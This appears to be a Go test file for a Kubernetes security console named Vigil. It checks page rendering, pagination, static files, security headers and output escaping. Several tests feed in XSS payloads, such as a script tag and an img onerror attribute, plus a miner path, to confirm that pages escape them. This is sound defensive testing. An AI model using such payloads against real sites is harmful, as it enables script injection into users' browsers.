		if !slices.Equal(x.Rules, []string{"runtime.crypto-miner"}) || x.Workload != "Deployment/shop/web" ||
			!strings.HasPrefix(x.ID, "x-") || !strings.Contains(x.Reason, "our miner benchmark") ||
			!strings.Contains(x.Reason, "P1") || !strings.Contains(x.Reason, "alice") || !x.Expires.Equal(tc.now.AddDate(0, 0, 7)) {
			t.Errorf("exception %+v", x)
		}
		if xs, _ := tc.st.ListExceptions(context.Background(), tc.dev.ID); len(xs) != 0 {
			t.Errorf("prod's exception applies to dev: %+v", xs)
		}
		a := tc.alert("P1")
		if a.Status != event.StatusDismissed || a.StatusBy != "alice" || !strings.Contains(a.StatusReason, "our miner benchmark") {
			t.Errorf("suppressed alert: %q by %q (%q)", a.Status, a.StatusBy, a.StatusReason)
		}
	})
}

// TestPages asserts that every other page renders for a reader with what
// the store holds, and that unknown things are 404 pages.
func TestPages(t *testing.T) {
	recs := []Recommendation{{ID: "no-privileged", Title: "Containers should not be privileged", Mode: "audit", Severity: event.High,
		Healthy: 3, Unhealthy: 1, Parameters: []string{"registries"}, Unhealthies: []string{"Deployment/shop/web"}}}
	withRecs := newTestConsole(t, Config{Recommendations: func(context.Context) ([]Recommendation, error) { return recs, nil }})
	tc := newTestConsole(t, Config{})
	tc.seedFilters()
	tc.ingest(tc.prod, ship.Batch{
		Health: []ship.Health{{Node: "node-1", Component: "sensor", State: "installed", At: tc.now,
			Health: &event.Health{Mode: "ebpf", DroppedTotal: 17}}},
		Inventory: []ship.InventoryItem{
			{Kind: ship.KindNode, Name: "node-1"}, {Kind: ship.KindNode, Name: "node-2"},
			{Kind: ship.KindWorkload, Namespace: "shop", Name: "Deployment/shop/web"},
			{Kind: ship.KindPod, Namespace: "shop", Name: "web-1", Node: "node-1", Attrs: map[string]string{"phase": "Running"}},
		},
	})

	t.Run("incidents", func(t *testing.T) {
		body := tc.page("/incidents", tc.reader, http.StatusOK)
		incs, err := tc.st.ListIncidents(context.Background(), "", 10)
		if err != nil || len(incs) == 0 {
			t.Fatalf("incidents %v %v", incs, err)
		}
		for _, in := range incs {
			if !strings.Contains(body, `href="/incidents/`+in.ID+`"`) {
				t.Errorf("incident %s (%s) is not listed", in.ID, in.Title)
			}
		}
		if got := tc.page("/incidents?cluster=dev", tc.reader, http.StatusOK); strings.Contains(got, "Crypto miner") {
			t.Errorf("dev's incidents show prod's")
		}
		p1 := tc.alert("P1")
		body = tc.page("/incidents/"+p1.IncidentID, tc.reader, http.StatusOK)
		if !strings.Contains(body, `href="/alerts/P1"`) || !strings.Contains(body, "<code>/tmp/xmrig</code>") || !strings.Contains(body, "in cluster prod") {
			t.Errorf("incident page lacks its alert:\n%s", body)
		}
		tc.page("/incidents/NOPE", tc.reader, http.StatusNotFound)
	})
	t.Run("recommendations", func(t *testing.T) {
		if body := tc.page("/recommendations", tc.reader, http.StatusOK); !strings.Contains(body, `id="no-recommendations"`) ||
			!strings.Contains(body, "No recommendations yet") {
			t.Errorf("no empty state:\n%s", body)
		}
		body := withRecs.page("/recommendations", withRecs.reader, http.StatusOK)
		for _, want := range []string{"Containers should not be privileged", "mode-audit", "<code>registries</code>", "Deployment/shop/web",
			`href="/recommendations/no-privileged"`, `<option value="dev" >dev</option>`} {
			if !strings.Contains(body, want) {
				t.Errorf("recommendations page lacks %s", want)
			}
		}
	})
	t.Run("recommendation", func(t *testing.T) {
		rc := withRecs
		var prod []ship.Finding
		for i := range findingPageSize + 10 {
			prod = append(prod, ship.Finding{ID: fmt.Sprintf("p%02d", i), Check: "no-privileged", Resource: fmt.Sprintf("Deployment/shop/w%02d", i),
				Namespace: "shop", Status: ship.Unhealthy, Details: map[string]any{"mode": "deny", "violations": []string{fmt.Sprintf("container c%d: privileged", i)}}})
		}
		prod = append(prod, ship.Finding{ID: "ok", Check: "no-privileged", Resource: "Deployment/shop/fine", Status: ship.Healthy},
			ship.Finding{ID: "x", Check: "no-privileged", Resource: "Deployment/shop/<script>x</script>", Status: ship.Unhealthy,
				Details: map[string]any{"violations": []string{"<img src=x>"}}})
		rc.ingest(rc.prod, ship.Batch{Findings: prod})
		rc.ingest(rc.dev, ship.Batch{Findings: []ship.Finding{{ID: "d", Check: "no-privileged", Resource: "Deployment/tools/t", Namespace: "tools",
			Status: ship.Unhealthy, Details: map[string]any{"mode": "audit", "violations": []string{"container t: privileged"}}}}})

		// The list narrowed to one cluster links to its pages with the filter.
		body := rc.page("/recommendations?cluster=dev", rc.reader, http.StatusOK)
		for _, want := range []string{`href="/recommendations/no-privileged?cluster=dev"`, `<td class="num">0</td><td class="num">1</td>`,
			"Deployment/tools/t", `<option value="dev" selected>dev</option>`} {
			if !strings.Contains(body, want) {
				t.Errorf("recommendations?cluster=dev lacks %s:\n%s", want, body)
			}
		}
		// Every unhealthy resource, a page at a time, with its violations.
		var resources []string
		target := "/recommendations/no-privileged"
		for pages := 0; target != ""; pages++ {
			body = rc.page(target, rc.reader, http.StatusOK)
			if pages == 0 && (!strings.Contains(body, `id="recommendation-title">Containers should not be privileged<`) ||
				!strings.Contains(body, "container c0: privileged") || strings.Contains(body, "Deployment/shop/fine")) {
				t.Fatalf("first page:\n%s", body)
			}
			if strings.Contains(body, "<script>x") || strings.Contains(body, "<img src=x>") {
				t.Fatalf("a resource or violation is not escaped")
			}
			resources = append(resources, regexp.MustCompile(`<tr><td><code>([^<]*)</code>`).FindAllString(body, -1)...)
			target = pageLink(body, "next-page")
			if pages > 3 {
				t.Fatal("too many pages")
			}
		}
		if len(resources) != findingPageSize+12 {
			t.Errorf("%d unhealthy resources listed, want %d", len(resources), findingPageSize+12)
		}
		body = rc.page("/recommendations/no-privileged?cluster=dev", rc.reader, http.StatusOK)
		if !strings.Contains(body, "Deployment/tools/t") || strings.Contains(body, "Deployment/shop/") ||
			!strings.Contains(body, `id="recommendation-counts">1 unhealthy, 0 healthy<`) || strings.Contains(body, `id="next-page"`) {
			t.Errorf("cluster=dev:\n%s", body)
		}
		rc.page("/recommendations/no-such-check", rc.reader, http.StatusNotFound)
		rc.page("/recommendations/no-privileged?cursor=bogus", rc.reader, http.StatusBadRequest)
		rc.page("/recommendations/no-privileged", "", http.StatusSeeOther)
	})
	t.Run("inventory", func(t *testing.T) {
		body := tc.page("/inventory", tc.reader, http.StatusOK)
		for _, want := range []string{"<td>node</td><td>node-1</td>", "<td>pod</td><td>web-1</td>", "<td>cluster</td><td>prod</td>", "<td>cluster</td><td>dev</td>", "<code>phase=Running</code>"} {
			if !strings.Contains(body, want) {
				t.Errorf("inventory lacks %s", want)
			}
		}
		body = tc.page("/inventory?kind=node", tc.reader, http.StatusOK)
		if !strings.Contains(body, "<td>node-2</td>") || strings.Contains(body, "<td>pod</td>") || strings.Contains(body, "<td>cluster</td>") {
			t.Errorf("kind=node shows other kinds:\n%s", body)
		}
		body = tc.page("/inventory?kind=cluster&cluster=dev", tc.reader, http.StatusOK)
		if !strings.Contains(body, "<td>cluster</td><td>dev</td>") || strings.Contains(body, "<td>prod</td>") || strings.Contains(body, "<td>node</td>") {
			t.Errorf("kind=cluster&cluster=dev:\n%s", body)
		}
		if body := tc.page("/inventory?kind=image", tc.reader, http.StatusOK); !strings.Contains(body, "Nothing of this type") {
			t.Errorf("no empty state for images")
		}
		if body := tc.page("/inventory?kind=%3Cb%3Ebogus", tc.reader, http.StatusBadRequest); strings.Contains(body, "<b>bogus") {
			t.Errorf("the bad kind is not escaped")
		}
	})
	t.Run("clusters", func(t *testing.T) {
		body := tc.page("/clusters", tc.reader, http.StatusOK)
		for _, want := range []string{`data-cluster="prod"`, `data-cluster="dev"`, "conn-connected", "Sensors dropped 17 events",
			"<b>1</b> nodes with a sensor", "1 without</b>: node-2", "No component has reported yet"} {
			if !strings.Contains(body, want) {
				t.Errorf("clusters page lacks %s", want)
			}
		}
	})
	t.Run("not found", func(t *testing.T) {
		for _, path := range []string{"/nope", "/alerts/P1/nope", "/static/nope.js"} {
			tc.page(path, tc.reader, http.StatusNotFound)
		}
		if body := tc.page("/nope", "", http.StatusNotFound); !strings.Contains(body, "There is no such page") {
			t.Errorf("signed-out 404 page:\n%s", body)
		}
	})
}

// TestSecurityHeaders asserts that pages, error pages and the sign-in
// page keep to the console's origin, that pages are not cached, and that
// what alerts carry is escaped wherever a page shows it.
func TestSecurityHeaders(t *testing.T) {
	tc := newTestConsole(t, Config{})
	xss := `<script>alert(1)</script>`
	tc.ingest(tc.prod, ship.Batch{Alerts: []event.Alert{
		testAlert("X1", "runtime.xss", xss, event.High, tc.now, func(a *event.Alert) {
			a.Namespace, a.Description = `"><img src=x onerror=alert(2)>`, xss
			a.Process.Args = []string{"sh", "-c", xss}
			a.Evidence = map[string]any{"field": xss}
		}),
	}})
	for _, target := range []string{"/alerts", "/alerts/X1", "/alerts/NOPE", "/incidents", "/login", "/nope"} {
		token := tc.reader
		if target == "/login" {
			token = ""
		}
		rec := tc.do(http.MethodGet, target, token, nil)
		h := rec.Header()
		csp := h.Get("Content-Security-Policy")
		if !strings.Contains(csp, "script-src 'self'") || !strings.Contains(csp, "frame-ancestors 'none'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: CSP %q", target, csp)
		}
		if h.Get("X-Frame-Options") != "DENY" || h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
			t.Errorf("%s: headers %v", target, h)
		}
		if ct := h.Get("Content-Type"); ct != "text/html; charset=utf-8" {
			t.Errorf("%s: Content-Type %q", target, ct)
		}
		body := rec.Body.String()
		if strings.Contains(body, "<script>alert") || strings.Contains(body, "<img src=x") {
			t.Errorf("%s renders the alert's markup unescaped", target)
		}
	}
	for _, target := range []string{"/alerts", "/alerts/X1"} {
		if body := tc.page(target, tc.reader, http.StatusOK); !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") {
			t.Errorf("%s does not show the escaped title", target)
		}
	}
	if body := tc.page("/alerts/X1", tc.reader, http.StatusOK); !strings.Contains(body, "<title>&lt;script&gt;alert(1)&lt;/script&gt; · Vigil</title>") {
		t.Errorf("the page title is not escaped")
	}
	// A search term is echoed into the form escaped.
	body := tc.page("/alerts?q="+url.QueryEscape(`"><script>alert(3)</script>`), tc.reader, http.StatusOK)
	if strings.Contains(body, "<script>alert(3)") || !strings.Contains(body, `value="&#34;&gt;&lt;script&gt;alert(3)&lt;/script&gt;"`) {
		t.Errorf("the search term is not escaped in the form")
	}
}

// TestStatic asserts that the vendored htmx and the stylesheet are served
// without signing in, with their types and a cache lifetime.
func TestStatic(t *testing.T) {
	tc := newTestConsole(t, Config{})
	for path, typ := range map[string]string{"/static/htmx.min.js": "javascript", "/static/vigil.css": "text/css"} {
		rec := tc.do(http.MethodGet, path, "", nil)
		if rec.Code != http.StatusOK || rec.Body.Len() == 0 {
			t.Errorf("%s: status %d, %d bytes", path, rec.Code, rec.Body.Len())
		}
		if ct := rec.Header().Get("Content-Type"); !strings.Contains(ct, typ) {
			t.Errorf("%s: Content-Type %q", path, ct)
		}
		if cc := rec.Header().Get("Cache-Control"); cc != "public, max-age=3600" {
			t.Errorf("%s: Cache-Control %q", path, cc)
		}
		if csp := rec.Header().Get("Content-Security-Policy"); csp == "" {
			t.Errorf("%s: no CSP", path)
		}
	}
	// The pages load only these.
	body := tc.page("/login", "", http.StatusOK)
	if !strings.Contains(body, `<script src="/static/htmx.min.js" defer></script>`) || !strings.Contains(body, `href="/static/vigil.css"`) {
		t.Errorf("the layout does not load the static files")
	}
}

// TestPagination asserts that a long list is cut at 50 rows with a link
// to the next page that keeps the filter, and that following the links
// visits every alert once.
func TestPagination(t *testing.T) {
	tc := newTestConsole(t, Config{})
	var alerts []event.Alert
	for i := range 120 {
		alerts = append(alerts, testAlert("A"+strconv.Itoa(1000+i), "runtime.r"+strconv.Itoa(i%7), "Alert "+strconv.Itoa(i), event.Medium,
			tc.now.Add(-time.Duration(i)*time.Minute)))
	}
	tc.ingest(tc.prod, ship.Batch{Alerts: alerts[:60]})
	tc.ingest(tc.prod, ship.Batch{Alerts: alerts[60:]})
	tc.ingest(tc.dev, ship.Batch{Alerts: []event.Alert{testAlert("DEV", "runtime.r0", "Dev alert", event.Medium, tc.now)}})

	body := tc.page("/alerts?cluster=prod", tc.reader, http.StatusOK)
	page1 := listRows(body)
	if len(page1) != 50 || page1[0] != "A1000" || page1[49] != "A1049" {
		t.Fatalf("page 1: %d rows %v", len(page1), page1)
	}
	if pageLink(body, "first-page") != "" || !strings.Contains(body, "<span>Page 1</span>") {
		t.Errorf("page 1 links to the first page or is not numbered 1")
	}
	next := pageLink(body, "next-page")
	u, err := url.Parse(next)
	if err != nil || u.Path != "/alerts" || u.Query().Get("cluster") != "prod" || u.Query().Get("cursor") == "" || u.Query().Get("page") != "2" {
		t.Fatalf("next-page link %q", next)
	}

	body = tc.page(next, tc.reader, http.StatusOK)
	page2 := listRows(body)
	if len(page2) != 50 || page2[0] != "A1050" {
		t.Fatalf("page 2: %d rows %v", len(page2), page2)
	}
	if first := pageLink(body, "first-page"); first != "/alerts?cluster=prod&status=active" {
		t.Errorf("page 2 first-page link %q", first)
	}
	if !strings.Contains(body, "<span>Page 2</span>") || strings.Contains(body, "hx-trigger") {
		t.Errorf("page 2 is not numbered 2, or polls (it would jump back to page 1)")
	}
	if got := listCounts(body)["medium"]; got != 120 {
		t.Errorf("page 2 counts %d medium, want all 120", got)
	}

	body = tc.page(pageLink(body, "next-page"), tc.reader, http.StatusOK)
	page3 := listRows(body)
	if len(page3) != 20 || pageLink(body, "next-page") != "" || pageLink(body, "first-page") == "" {
		t.Fatalf("page 3: %d rows, next %q", len(page3), pageLink(body, "next-page"))
	}
	all := append(append(slices.Clone(page1), page2...), page3...)
	seen := map[string]bool{}
	for _, id := range all {
		if seen[id] || id == "DEV" {
			t.Fatalf("alert %s twice or from the wrong cluster", id)
		}
		seen[id] = true
	}
	if len(seen) != 120 {
		t.Errorf("paging visited %d alerts, want 120", len(seen))
	}
}
